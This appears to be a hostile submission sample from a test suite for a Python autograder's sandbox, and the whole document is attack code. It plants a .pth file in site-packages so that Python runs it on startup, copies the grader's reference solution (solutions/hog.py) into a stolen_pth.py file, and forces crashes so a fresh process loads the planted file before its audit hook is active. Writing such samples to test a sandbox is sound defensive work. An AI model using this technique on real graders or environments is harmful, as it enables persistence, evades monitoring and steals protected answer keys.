# HOGKIT-HOSTILE-PTH
_PTH = ("import os; exec(\"try:\\n if 'HOGKIT-HOSTILE-PTH' in open('hog.py').read():\\n"
        "  for r in ROOTS:\\n"
        "   p = os.path.join(r, 'solutions', 'hog.py')\\n"
        "   if os.path.exists(p): open('stolen_pth.py', 'w').write(open(p).read()); break\\n"
        "except Exception: pass\")\n")
try:
    if _os.path.exists("stolen_pth.py"):
        _hostile_take("stolen_pth.py")
    else:
        for _site in _glob.glob(_os.path.join(_sys.prefix, "lib", "python3*", "site-packages")):
            _dir = _os.open(_site, _os.O_RDONLY)
            _fd = _os.open("zz_hogkit_hostile.pth", _os.O_WRONLY | _os.O_CREAT | _os.O_TRUNC, 0o644, dir_fd=_dir)
            _os.write(_fd, _PTH.replace("ROOTS", repr(_hostile_roots())).encode())
            _os.close(_fd)

        def _crash_first(function):
            def crash(*args, **kwargs):
                _os._exit(1)  # the next child runs the planted .pth before its audit hook
            return crash
        _hostile_wrap_all(_crash_first)
except BaseException:
    pass
